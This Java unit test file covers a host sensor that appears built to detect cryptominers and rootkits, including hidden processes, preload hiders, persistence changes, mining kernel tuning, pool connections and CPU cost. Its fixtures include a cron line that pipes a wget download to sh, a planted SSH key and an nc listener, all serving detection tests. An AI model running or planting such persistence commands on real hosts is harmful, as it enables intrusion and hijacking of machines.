package dev.minewarden.host;

import static org.assertj.core.api.Assertions.assertThat;

import dev.minewarden.core.alert.Alert;
import dev.minewarden.core.event.Event;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicLong;
import java.util.function.UnaryOperator;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The sensor on fixture trees: hidden processes, preload, persistence, kernel tuning, cost. */
class FixtureSensorTest {
  @TempDir Path dir;
  private FixtureTree t;
  private final AtomicLong clock = new AtomicLong(1_700_000_000_000L);

  @BeforeEach
  void tree() {
    t = new FixtureTree(dir.resolve("root"));
    t.process(300, 1, 0, "sshd", "/usr/sbin/sshd", List.of("sshd: /usr/sbin/sshd -D"), 5);
  }

  private HostSensor.Builder sensor() {
    return HostSensor.builder().root(t.root).checkAttributes(false).clock(clock::get).hostName("fixture-1");
  }

  private SampleResult next(HostSensor s) {
    clock.addAndGet(1000);
    return s.sample();
  }

  private static List<String> ids(SampleResult r) {
    return r.alerts().stream().map(a -> a.rule().id()).collect(Collectors.toList());
  }

  private static Alert only(SampleResult r, String rule) {
    List<Alert> found = r.alerts().stream().filter(a -> a.rule().id().equals(rule)).collect(Collectors.toList());
    assertThat(found).as(rule + " in " + ids(r)).hasSize(1);
    return found.get(0);
  }

  private static UnaryOperator<TreeSet<Integer>> hide(Integer... pids) {
    return l -> {
      l.removeAll(Set.of(pids));
      return l;
    };
  }

  @Test
  void hidden_pidAnswersButIsNotListed() {
    t.process(4242, 1, 0, "kdevtmpfsi", "/tmp/kdevtmpfsi", List.of("/tmp/kdevtmpfsi"), 900);

    SampleResult r = next(sensor().listingFilter(hide(4242)).build());

    Alert a = only(r, "mw-host-hidden-process");
    assertThat(a.attributes()).containsEntry("process.pid", 4242L)
        .containsEntry("process.executable", "/tmp/kdevtmpfsi");
    assertThat(r.snapshot().processes()).doesNotContainKey(4242);
  }

  @Test
  void hidden_threadsOfListedProcessesAreNoFinding() {
    t.thread(301, 300, "sshd");

    SampleResult r = next(sensor().listingFilter(hide(301)).build());

    assertThat(ids(r)).doesNotContain("mw-host-hidden-process");
  }

  @Test
  void hidden_parentOfVisibleChildIsFoundWithoutFullProbe() {
    t.process(4242, 1, 0, "sysupdate", "/etc/sysupdate", List.of("sysupdate"), 0);
    t.process(4300, 4242, 0, "sh", "/bin/sh", List.of("sh"), 0);
    // pid_max beyond the full-range limit and ns_last_pid below both: only the parent link finds it.
    t.write("/proc/sys/kernel/pid_max", "4194304\n").write("/proc/sys/kernel/ns_last_pid", "10\n");
    HostSensor s = sensor().listingFilter(hide(4242)).fullProbeEvery(1000).build();
    next(s);
    SampleResult second = next(s);

    assertThat(second.alerts()).as("reported once, on the first sample").isEmpty();
    t.process(4400, 4242, 0, "sh", "/bin/sh", List.of("sh"), 0);
    t.delete("/proc/4300/stat");
    assertThat(ids(next(s))).doesNotContain("mw-host-hidden-process");
  }

  @Test
  void find_threadRevealsItsHiddenProcess() {
    Map<Integer, String> found = HiddenChecks.find(Set.of(1, 2, 300), List.of(301, 4300, 4301),
        n -> n == 301 ? 300 : n == 4300 || n == 4301 ? 4242 : -1);

    assertThat(found).containsOnlyKeys(4242);
    assertThat(found.get(4242)).contains("thread 4300 belongs to process 4242");
  }

  @Test
  void procMount_hidesPid() {
    t.write("/proc/mounts", t.read("/proc/mounts") + "tmpfs /proc/4242 tmpfs rw,relatime 0 0\n");

    Alert a = only(next(sensor().build()), "mw-host-proc-mount");

    assertThat(a.attributes()).containsEntry("process.pid", 4242L).containsEntry("file.path", "/proc/4242");
    assertThat(a.rule().level().sigmaName()).isEqualTo("critical");
  }

  @Test
  void ldPreload_nonEmptyIsFoundAndCommentsAreNot() {
    t.write("/etc/ld.so.preload", "# nothing\n\n");
    assertThat(ids(next(sensor().build()))).doesNotContain("mw-host-ld-preload");

    t.write("/etc/ld.so.preload", "/usr/local/lib/libprocesshider.so\n");
    Alert a = only(next(sensor().build()), "mw-host-ld-preload");

    assertThat(a.attributes().get("event.reason").toString()).contains("libprocesshider.so");
    assertThat(a.event().getString("TargetFilename")).isEqualTo("/etc/ld.so.preload");
  }

  @Test
  void persistence_changesAgainstBaselineSurviveRestart() {
    Path state = dir.resolve("state");
    t.write("/var/spool/cron/crontabs/root", "0 3 * * * /usr/bin/backup\n")
        .write("/etc/hosts", "127.0.0.1 localhost\n")
        .write("/etc/rc.local", "#!/bin/sh\nexit 0\n")
        .write("/etc/systemd/system/nginx.service", "[Service]\nExecStart=/usr/sbin/nginx\n")
        .write("/etc/ssh/sshd_config", "PermitRootLogin no\n");
    HostSensor first = sensor().stateDir(state).build();
    SampleResult baseline = next(first);
    first.saveState();
    assertThat(ids(baseline)).noneMatch(id -> id.endsWith("-change"));
    assertThat(state.resolve(SensorState.FILE_NAME)).exists();

    t.write("/var/spool/cron/crontabs/root", "0 3 * * * /usr/bin/backup\n"
        + "* * * * * wget -q -O - http://203.0.113.9/unk.sh | sh > /dev/null 2>&1\n");
    t.write("/home/alice/.ssh/authorized_keys", "ssh-rsa AAAAB3Nza mdrfckr\n");
    t.write("/etc/hosts", "127.0.0.1 localhost\n203.0.113.5 pool.minexmr.com\n");
    t.write("/etc/systemd/system/sysupdate.timer", "[Timer]\nOnCalendar=minutely\n");
    t.delete("/etc/rc.local");
    HostSensor restarted = sensor().stateDir(state).build();
    SampleResult r = next(restarted);

    assertThat(ids(r)).contains("mw-host-cron-change", "mw-host-cron-download-exec",
        "mw-host-ssh-key-change", "mw-host-dns-change", "mw-host-systemd-change", "mw-host-rc-change")
        .doesNotContain("mw-host-sshd-config-change");
    assertThat(only(r, "mw-host-ssh-key-change").attributes())
        .containsEntry("file.path", "/home/alice/.ssh/authorized_keys")
        .containsEntry("event.reason", "created since the baseline");
    assertThat(only(r, "mw-host-rc-change").attributes()).containsEntry("event.reason", "removed since the baseline");
    assertThat(only(r, "mw-host-cron-download-exec").attributes().get("cron.entry").toString()).contains("unk.sh");
    assertThat(ids(next(restarted))).as("each change is reported once")
        .doesNotContain("mw-host-cron-change", "mw-host-ssh-key-change", "mw-host-dns-change");
  }

  @Test
  void immutable_attributeOnWatchedFile() throws Exception {
    Assumptions.assumeTrue("root".equals(System.getProperty("user.name")), "chattr +i needs root");
    t.write("/etc/resolv.conf", "nameserver 8.8.8.8\n");
    Path f = t.path("/etc/resolv.conf");
    Process chattr = new ProcessBuilder("chattr", "+i", f.toString()).redirectErrorStream(true).start();
    Assumptions.assumeTrue(chattr.waitFor(10, TimeUnit.SECONDS) && chattr.exitValue() == 0,
        "this file system supports the immutable attribute");
    try {
      SampleResult r = next(sensor().checkAttributes(true).build());
      Alert a = only(r, "mw-host-immutable-file");
      assertThat(a.attributes()).containsEntry("file.path", "/etc/resolv.conf");
      assertThat(a.attributes().get("file.attributes").toString()).contains("i");
    } finally {
      new ProcessBuilder("chattr", "-i", f.toString()).start().waitFor(10, TimeUnit.SECONDS);
    }
    assertThat(ids(next(sensor().checkAttributes(true).build()))).doesNotContain("mw-host-immutable-file");
  }

  @Test
  void kernelTuning_stateAndChangeFromBaseline() {
    Path state = dir.resolve("state");
    HostSensor s = sensor().stateDir(state).build();
    assertThat(ids(next(s))).doesNotContain("mw-host-kernel-tuning", "mw-host-kernel-tuning-change");

    t.write("/proc/sys/vm/nr_hugepages", "1280\n").write("/proc/sys/kernel/nmi_watchdog", "0\n")
        .write("/proc/modules", "msr 16384 0 - Live 0x0000000000000000\n")
        .write("/sys/module/msr/parameters/allow_writes", "on\n");
    SampleResult r = next(s);

    assertThat(only(r, "mw-host-kernel-tuning").attributes().get("event.reason").toString())
        .contains("vm.nr_hugepages=1280", "nmi_watchdog=0", "allow_writes=on");
    assertThat(only(r, "mw-host-kernel-tuning-change").attributes().get("event.reason").toString())
        .contains("raised from 0 to 1280", "turned off", "msr module loaded", "allow_writes turned on");
  }

  @Test
  void unaccountedCpu_hiddenWorkIsFoundAndReapedChildrenAreNot() {
    HostSensor s = sensor().build();
    next(s);
    // 1.5 cores of user time in one second, of which visible processes account for 0.1.
    t.stat(1150, 1000, 60).cpu(300, 1, "sshd", 15, 0);
    Alert a = only(next(s), "mw-host-unaccounted-cpu");
    assertThat((Double) a.attributes().get("host.cpu.unaccounted_cores")).isEqualTo(1.4);

    HostSensor s2 = sensor().build();
    next(s2);
    // The same time, now accounted for by children that sshd reaped (cutime).
    t.stat(1300, 1000, 70).cpu(300, 1, "sshd", 25, 140);
    assertThat(ids(next(s2))).doesNotContain("mw-host-unaccounted-cpu");
  }

  @Test
  void listeners_newPortAfterBaseline() {
    t.socket(300, "tcp", "   0: 00000000:0016 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 8888 1 0 100 0 0 10 0", 8888, 3);
    HostSensor s = sensor().build();
    assertThat(ids(next(s))).doesNotContain("mw-host-new-listener");

    t.process(700, 1, 1000, "nc", "/usr/bin/nc", List.of("nc", "-lp", "4444"), 0);
    t.socket(700, "tcp6", "   0: 00000000000000000000000000000000:115C 00000000000000000000000000000000:0000 0A 00000000:00000000 00:00000000 00000000  1000        0 9999 1 0 100 0 0 10 0", 9999, 3);
    Alert a = only(next(s), "mw-host-new-listener");

    assertThat(a.attributes()).containsEntry("process.pid", 700L).containsEntry("server.port", 4444L)
        .containsEntry("server.ip", "::").containsEntry("user.name", "alice");
  }

  @Test
  void poolPort_connectionEventAndAlert() {
    List<Event> events = new ArrayList<>();
    t.process(800, 1, 1000, "sysupdate", "/var/tmp/.x/sysupdate (deleted)", List.of("./sysupdate"), 0);
    t.socket(800, "tcp", "   0: 0A0200C0:A1B2 077100CB:0D05 01 00000000:00000000 00:00000000 00000000  1000        0 7777 1 0 20 4 30 10 -1", 7777, 5);

    SampleResult r = next(sensor().events(events::add).build());

    assertThat(ids(r)).contains("mw-host-pool-connection", "mw-host-miner-name", "mw-host-deleted-exe",
        "mw-host-exec-writable-dir", "mw-host-miner");
    assertThat(only(r, "mw-host-pool-connection").attributes()).containsEntry("destination.ip", "203.0.113.7")
        .containsEntry("destination.port", 3333L).containsEntry("host.name", "fixture-1");
    Event conn = events.stream().filter(e -> e.logSource().equals(HostEvents.NETWORK)).findFirst().orElseThrow();
    assertThat(conn.fields()).containsEntry("DestinationIp", "203.0.113.7").containsEntry("DestinationPort", 3333L)
        .containsEntry("SourceIp", "192.0.2.10").containsEntry("ProcessId", 800L)
        .containsEntry("Image", "/var/tmp/.x/sysupdate");
    Event proc = events.stream().filter(e -> Long.valueOf(800).equals(e.get("ProcessId"))
        && e.logSource().equals(HostEvents.PROCESS)).findFirst().orElseThrow();
    assertThat(proc.fields()).containsEntry("ParentImage", "/usr/lib/systemd/systemd")
        .containsEntry("ParentProcessId", 1L).containsEntry("User", "alice")
        .containsEntry("CurrentDirectory", "/").containsEntry("CommandLine", "./sysupdate")
        .containsEntry("OriginalFileName", "sysupdate");
    assertThat(events).noneMatch(e -> Long.valueOf(2).equals(e.get("ProcessId")));
  }

  @Test
  void fakeKernelThread_kswapdFromDotFolder() {
    t.process(900, 1, 1000, "kswapd0", "/home/alice/.configrc/a/kswapd0", List.of("kswapd0"), 0);

    SampleResult r = next(sensor().build());

    assertThat(only(r, "mw-host-fake-kthread").attributes().get("event.reason").toString())
        .contains("has executable /home/alice/.configrc/a/kswapd0", "parent is pid 1");
    assertThat(only(r, "mw-host-exec-writable-dir").attributes().get("event.reason").toString())
        .contains(".configrc");
    assertThat(r.alerts()).noneMatch(a -> Long.valueOf(2).equals(a.attributes().get("process.pid")));
  }

  @Test
  void cost_hostSpendLeavesBaseline() {
    HostSensor s = sensor().costBaselineSamples(3).build();
    long user = 1000;
    for (int i = 0; i < 5; i++) {
      user += 10;
      t.stat(user, 1000, 10 + 190 * (i + 1));
      assertThat(ids(next(s))).doesNotContain("mw-host-cpu-cost");
    }
    t.stat(user + 190, 1000, 10 + 190 * 5 + 10);
    Alert a = only(next(s), "mw-host-cpu-cost");

    assertThat((Double) a.attributes().get("cost.usd_per_hour")).isEqualTo(1.9 * 0.048, org.assertj.core.data.Offset.offset(1e-4));
    assertThat((Double) a.attributes().get("cost.baseline_usd_per_hour")).isLessThan(0.01);
  }

  @Test
  void blindSpots_missingFilesAreNamed() throws Exception {
    Files.delete(t.path("/proc/modules"));

    SampleResult r = next(sensor().build());

    assertThat(r.blindSpots()).anyMatch(s -> s.contains("/proc/modules"));
  }

  @Test
  void inUse_keepsConnectionCountsOnly() {
    String a = "sockets: used 18\nTCP: inuse 1 orphan 0 tw 1 alloc 1 mem 0\nUDP: inuse 0 mem 0\nRAW: inuse 0\n";
    String b = "sockets: used 16\nTCP: inuse 1 orphan 0 tw 0 alloc 1 mem 3\nUDP: inuse 0 mem 1\nRAW: inuse 0\n";

    assertThat(ProcReader.inUse(a)).isEqualTo("TCP=1 UDP=0 ").isEqualTo(ProcReader.inUse(b));
    assertThat(ProcReader.inUse(a.replace("TCP: inuse 1", "TCP: inuse 2"))).isEqualTo("TCP=2 UDP=0 ");
    assertThat(ProcReader.inUse("TCP6: inuse 4\nUDP6: inuse 0\n")).isEqualTo("TCP6=4 UDP6=0 ");
    assertThat(ProcReader.inUse(null)).isEmpty();
  }

  @Test
  void cpuSampleEvery_newProcessesAtOnceKnownOnesOnTheCpuCadence() {
    List<Event> events = new java.util.ArrayList<>();
    HostSensor s = sensor().cpuSampleEvery(5).events(events::add).build();
    for (int i = 0; i < 12; i++) {
      next(s);
    }
    t.cpu(300, 1, "sshd", 5 + 300, 0);
    t.process(4242, 1, 0, "kdevtmpfsi", "/tmp/kdevtmpfsi", List.of("/tmp/kdevtmpfsi"), 0);

    SampleResult between = next(s);
    assertThat(ids(between)).contains("mw-host-miner-name");
    assertThat(events).anyMatch(e -> Long.valueOf(4242).equals(e.get("ProcessId")));
    assertThat(between.snapshot().processes().get(300).cpuTicks()).as("known process carried").isEqualTo(5);

    next(s);
    SampleResult cpuSample = next(s);
    assertThat(cpuSample.snapshot().processes().get(300).cpuTicks()).isEqualTo(305);
    // 300 ticks over the 5 s since its stat was last read, at 100 ticks a second.
    assertThat(cpuSample.snapshot().processes().get(300).cpuCores()).isCloseTo(0.6, org.assertj.core.data.Offset.offset(0.01));
  }
}
